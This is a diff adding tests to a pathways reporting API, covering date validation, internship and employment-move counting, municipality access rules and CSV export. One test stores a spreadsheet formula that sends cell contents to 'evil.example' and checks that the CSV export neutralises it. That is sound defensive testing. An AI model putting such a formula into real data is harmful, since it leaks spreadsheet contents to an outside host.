@@ -149,6 +149,7 @@ async def test_the_csv_has_both_tables_and_bad_input_is_refused(
     for query, field in (
         ({"date_from": "2026-07-01", "date_to": "2026-01-01"}, "query"),
         ({"project_id": "not-an-id"}, "query.project_id"),
+        ({"date_to": "0001-03-01"}, "query.date_to"),  # a year back would overflow
     ):
         refused = await pathways.get(URL, params=query, headers=a.admin)
         assert refused.status_code == 422, refused.text
@@ -157,3 +158,54 @@ async def test_the_csv_has_both_tables_and_bad_input_is_refused(
     assert (await pathways.get(URL, params=PERIOD, headers=a.provider)).status_code == 403
     unknown = await pathways.get(URL, params={"project_id": str(uuid.uuid4())}, headers=a.admin)
     assert unknown.status_code == 404
+
+
+async def test_a_later_change_does_not_move_an_internship_and_people_are_counted_once(
+    pathways: httpx.AsyncClient, orgs: tuple[Org, Org, Org]
+) -> None:
+    a, _, _ = orgs
+    host = str(uuid.uuid4())
+    pathway, (internship,) = await _pathway(pathways, a, "Latina", [_action("internship", host)])
+    await _monitor(pathways, a, pathway, _at(2), progress=[{"action_id": internship,
+                                                           "status": "done"}])  # fmt: skip
+    # The same person up and down twice: one person in each cell, not four moves.
+    for month, status in ((3, "formal_employment"), (4, "informal"), (5, "formal_employment")):
+        await _monitor(pathways, a, pathway, _at(month), employment_status=status)
+    url = f"/api/v1/pathways/{pathway}/actions/{internship}"
+    with clock.frozen_at(_at(9)):  # a change months later (its note, say) leaves its end alone
+        etag = (await pathways.get(url, headers=a.operator)).headers["ETag"]
+        noted = await pathways.patch(
+            url, json={"progress": "Certificate filed"}, headers={**a.operator, "If-Match": etag}
+        )
+        assert noted.status_code == 200, noted.text
+        report = (await pathways.get(URL, params=PERIOD, headers=a.admin)).json()
+    assert _cells(report["internships"])[(host, "not_converted")] == 1
+    moves = _cells(report["moves"])
+    assert moves[("upward", "not_recorded", "Latina")] == 1
+    assert moves[("downward", "not_recorded", "Latina")] == 1
+
+
+async def test_a_protected_reader_reads_a_municipality_in_the_whole_table_and_the_csv_is_inert(
+    pathways: httpx.AsyncClient, orgs: tuple[Org, Org, Org]
+) -> None:
+    a, _, _ = orgs
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    pathway, _ids = await _pathway(pathways, a, formula, [])
+    await _monitor(pathways, a, pathway, _at(3), employment_status="formal_employment")
+    cut = {**PERIOD, "municipality": "Latina"}
+    with clock.frozen_at(_at(7)):
+        refused = await pathways.get(URL, params=cut, headers=a.operator)
+        crosstab = await pathways.get(
+            "/api/v1/reports/indicators", params={**cut, "by": "sex,municipality"},
+            headers=a.operator,
+        )  # fmt: skip
+        exact = await pathways.get(URL, params=cut, headers=a.admin)
+        as_csv = await pathways.get(URL, params=PERIOD, headers={**a.admin, "Accept": "text/csv"})
+    for answer in (refused, crosstab):
+        assert answer.status_code == 422, answer.text
+        assert answer.json()["errors"][0]["field"] == "query.municipality"
+    assert exact.status_code == 200  # the org admin may cut its own exact table
+    rows = list(csv.reader(io.StringIO(as_csv.text)))
+    municipalities = {row[3] for row in rows[1:] if row[0] == "moves"}
+    assert f"'{formula}" in municipalities
+    assert formula not in municipalities
